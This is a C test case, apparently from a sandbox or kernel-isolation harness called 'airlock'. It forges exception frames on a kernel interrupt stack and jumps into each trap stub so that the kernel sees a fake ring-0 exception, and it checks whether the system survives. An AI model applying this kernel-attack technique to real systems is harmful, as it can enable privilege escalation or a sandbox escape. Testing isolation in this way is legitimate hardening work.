// Forges the frame on the trap stack that a stub would have left, and jumps to the stub: the
// kernel takes it for an exception in ring 0, in the kernel, nowhere.
// call: Attack
// want: any
// run: any
// args: 0x10 0x7fc000000000
// args: 0x33 0x7fc000001000
// args: 0x33 0x8000000000000000
// args: 0x10 0xffffffff81000000
// args: 0xfffb 0
#include "attack.h"

static const char *attack(struct airlock_call *call, const char *how)
{
	const struct airlock_kernel_info *k = KERNEL_INFO;
	uint64_t selector = strtoull(how, NULL, 0), rip = number(how), top;
	(void)call;
	memcpy(&top, (char *)k->tss + 36, 8); // the first of the interrupt stacks
	catch_faults();
	for (volatile int vector = 0; vector < 32; vector++) {
		uint64_t frame[8] = {rip, 0, 6, rip, selector, 0x3ed7, rip, selector};
		if (SURVIVES(memcpy((void *)(top - sizeof frame), frame, sizeof frame))) {
			(void)SURVIVES(__asm__ volatile("call *%0" ::"r"(k->trap_stubs + vector * k->trap_stub_size)
			                                : "rax", "rbx", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "memory"));
		}
	}
	use_kernel();
	return "done";
}
